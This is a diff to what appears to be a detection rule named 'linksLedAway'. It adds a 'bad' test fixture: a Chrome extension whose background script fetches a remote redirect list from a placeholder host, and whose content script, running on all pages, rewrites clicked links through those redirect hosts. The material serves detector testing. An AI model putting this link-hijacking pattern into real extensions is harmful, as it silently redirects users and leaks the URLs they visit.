@@ -74,9 +74,16 @@ export const linksLedAway = defineRule({
       contentExample(
         'document.querySelectorAll("a").forEach((a) => { a.href = "https://r.x.example/?u=" + a.href; });',
       ),
-      contentExample(
-        'const led = (link) => "https://r.x.example/?u=" + encodeURIComponent(link.href); document.addEventListener("mousedown", (e) => { const a = e.target.closest("a"); a.href = led(a); });',
-      ),
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "b.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}',
+          'b.js':
+            'chrome.alarms.onAlarm.addListener(async () => { const { hops } = await (await fetch("https://hops.x.example/h.json")).json(); chrome.storage.local.set({ hops }); });',
+          'c.js':
+            'chrome.storage.local.get(["hops"], ({ hops }) => { const led = (link) => { const u = new URL(link.href); const hop = hops.find((h) => u.hostname.includes(h.d)); return hop ? hop.w + encodeURIComponent(u.toString()) : u.toString(); }; document.addEventListener("mousedown", (e) => { const a = e.target.closest("a"); if (a) a.href = led(a); }, true); });',
+        },
+      },
     ],
     good: [
       contentExample(
